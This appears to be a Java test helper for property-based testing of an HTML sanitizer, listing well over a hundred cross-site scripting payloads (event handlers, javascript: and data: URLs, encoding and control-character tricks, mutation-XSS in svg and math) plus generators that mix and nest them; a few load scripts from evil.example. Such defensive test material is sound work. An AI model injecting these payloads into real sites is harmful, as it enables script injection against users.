package dev.byline.text;

import java.util.List;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** What attackers send, by class of attack; the word {@code pwn} marks what must never run. */
public final class Payloads {

    private static final List<String> TABLE = List.of(
        "<script>pwn()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>pwn()</scr</script>ipt>",
        "<script", "<script/x>pwn()", "</script><script>pwn()</script>", "<img src=x onerror=pwn()>",
        "<img src=x onerror=pwn()//", "<img/src=x/onerror=pwn()>", "<IMG SRC=\"x\" OnErRoR=\"pwn()\">",
        "<b onmouseover=\"pwn()\">x</b>",
        "<a href=\"x\" onclick='pwn()' style=\"background:url(javascript:pwn())\">x</a>",
        "\" onfocus=pwn() autofocus x=\"", "' onfocus='pwn()", "\"><script>pwn()</script>",
        "'><img src=x onerror=pwn()>",
        "<a href=\"javascript:pwn()\">x</a>", "<a href=\"JaVaScRiPt:pwn()\">x</a>",
        "<a href='java\tscript:pwn()'>x</a>",
        "<a href='java\nscript:pwn()'>x</a>", "<a href='java\r\nscript:pwn()'>x</a>",
        "<a href=' \u0001javascript:pwn()'>x</a>", "<a href='java&Tab;script:pwn()'>x</a>",
        "<a href='java&NewLine;script&colon;pwn()'>x</a>", "<a href='&#106;avascript:pwn()'>x</a>",
        "<a href='&#x6A&#x61vascript:pwn()'>x</a>", "<a href='&#0000106avascript:pwn()'>x</a>",
        "<a href='%6aavascript:pwn()'>x</a>", "<a href=javascript&#58;pwn()>x</a>", "<a href='vbscript:pwn()'>x</a>",
        "<a href=\"data:text/html,<script>pwn()</script>\">x</a>", "<a href='DATA:text/html;base64,cHdu'>x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=pwn()>\">", "<img src=javascript:pwn()>",
        "<img src=\"mailto:a@b.example\">", "<audio src=tel:1>",
        "<blockquote cite=\"javascript:pwn()\">x</blockquote>", "<q cite='data:text/html,x'>x</q>",
        "<video poster=javascript:pwn() src=data:x><source src=javascript:pwn()></video>",
        "<a href=\"//evil.example\" target=_blank>x</a>", "<a href=\"\\\\evil.example\">x</a>",
        "<a href='https://a.example\" onclick=\"pwn()'>x</a>", "<a href=http://a.example/`onclick=pwn()`>x</a>",
        "<a title='\"><script>pwn()</script>' href='http://a.example'>x</a>", "<a href='http://u:p@a.example'>x</a>",
        "<b>unclosed", "<a href=\"http://a.example", "<a href='http://a.example'>open", "<p><b><i>x</p></b>",
        "</b></p></body></html>x", "<!--", "<!-- --!><script>pwn()</script> -->", "<!--><img src=x onerror=pwn()>-->",
        "<![CDATA[<script>pwn()</script>]]>", "<?xml version=\"1.0\"?><script>pwn()</script>",
        "<!DOCTYPE html [<!ENTITY x \"pwn\">]>", "<scr\u0000ipt>pwn()</scr\u0000ipt>", "<\u0000script>pwn()</script>",
        "<a href='java\u0000script:pwn()'>x</a>", "<img\u000bsrc=x\u000bonerror=pwn()>", "\u202Epwn\u202C <b>x</b>",
        "<a href='\u200Fjavascript:pwn()'>x</a>", "<a href='http://\u202Ea.example'>x</a>",
        "&lt;script&gt;pwn()&lt;/script&gt;",
        "&#60;script&#62;pwn()&#60;/script&#62;", "&amp;lt;script&amp;gt;",
        "<b title=\"&quot;><script>pwn()</script>\">x</b>",
        "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>",
        "<svg><style><img src=x onerror=pwn()></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=pwn()>\">",
        "<svg><a xlink:href=javascript:pwn()>x</a></svg>",
        "<svg><animate onbegin=pwn() attributeName=x>", "<svg><foreignObject><iframe srcdoc='<script>pwn()</script>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwn()></style></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
        "<style><img src=\"</style><img src=x onerror=pwn()>\">",
        "<title><img src=x onerror=pwn()></title>", "<textarea><img src=x onerror=pwn()></textarea>",
        "<title><a id=\"</title><img src=x onerror=pwn()>\">", "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=pwn()>\"></noembed>", "<plaintext><script>pwn()</script>",
        "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc='<script>pwn()</script>'>",
        "<object data=javascript:pwn()>",
        "<embed src=javascript:pwn()>", "<base href=javascript:pwn()//>",
        "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:pwn())\">x</p>", "<p style='width:expression(pwn())'>x</p>",
        "<p style='text-align:center;position:fixed'>x</p>", "<div style=\"x:\\65xpression(pwn())\">x</div>",
        "<form action=javascript:pwn()><input type=submit></form>", "<button formaction=javascript:pwn()>x</button>",
        "<input autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>x</details>",
        "<template><script>pwn()</script></template>",
        "<table><td><script>pwn()</script>", "<table><a href=javascript:pwn()>x</table>",
        "<select><style></select><img src=x onerror=pwn()>",
        "<p id=\"x y\" class=\"a&quot;b\">x</p>", "<img id=getElementById name=body>",
        "<marquee onstart=pwn()>x</marquee>",
        "<body onload=pwn()>", "<html><head><script>pwn()</script>", "{{constructor.constructor('pwn()')()}}",
        "http://a.example/\"onmouseover=\"pwn()", "http://a.example/'><script>pwn()</script>",
        "javascript://a.example/%0Apwn()",
        "[x](javascript:pwn())", "![x](data:text/html,pwn)", "[x](<java\tscript:pwn()>)", "<javascript:pwn()>",
        "[x]: javascript:pwn()\n\n[x]", "[a](http://a.example \"'onclick=pwn() x='\")",
        "```\"><script>pwn()</script>\nx\n```");

    private static final String[] FRAGMENTS = {"<", ">", "</", "/>", "\"", "'", "=", " ", "\n", "\n\n", "&", ";",
        "&lt;", "&#60;",
        "&#x", "`", "<a href=\"", "<a href=", "http://a.example/", "javascript:pwn()", "</a>", "<b>", "</b>", "<i>",
        "</i>",
        "<p>", "</p>", "<div>", "</div>", "<blockquote>", "</blockquote>", "<code>", "</code>", "<pre>", "</pre>",
        "<ul>", "<li>",
        "</li>", "</ul>", "<table>", "<tr>", "<td>", "</td>", "</table>", "<h2>", "</h2>", "<img src=x onerror=pwn()>",
        "<br>",
        "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<script>", "</script>", "<title>", "</title>",
        "<textarea>",
        "</textarea>", "<noscript>", "</noscript>", "<!--", "-->", "<![CDATA[", "]]>", "<select>", "<option>",
        "<form>", "<iframe>",
        "</iframe>", "<template>", "<dl>", "<dt>", "<dd>", "<figure>", "<figcaption>", "<details>", "<summary>",
        "<video src=/v>",
        "<q cite='", "<span class=x>", "</span>", " onclick=pwn()", " style=\"text-align:center\"", " target=_blank",
        "{{", "x",
        "word", "é", "🎉", "\u0000", "\u200b", "\u202e", "\ud800", "\ufffe", "* ", "> ", "[", "](", ")", "|", "---",
        "[caption]",
        "[/caption]", "[gallery]", "<section>", "</section>", "<center>", "<strike>", "<tt>", "<header>", "<address>"};

    private Payloads() {
    }

    public static Stream<String> table() {
        return TABLE.stream();
    }

    /** Fragments of tags, attacks and text in any order. */
    public static Arbitrary<String> mixes() {
        return Arbitraries.of(FRAGMENTS).list().ofMinSize(1).ofMaxSize(40).map(parts -> String.join("", parts));
    }

    /** Two payloads of the table, one inside or after the other. */
    public static Arbitrary<String> pairs() {
        Arbitrary<String> one = Arbitraries.of(TABLE);
        return one.flatMap(first -> one.flatMap(second -> Arbitraries.integers().between(0, first.length())
            .map(at -> first.substring(0, at) + second + first.substring(at))));
    }
}
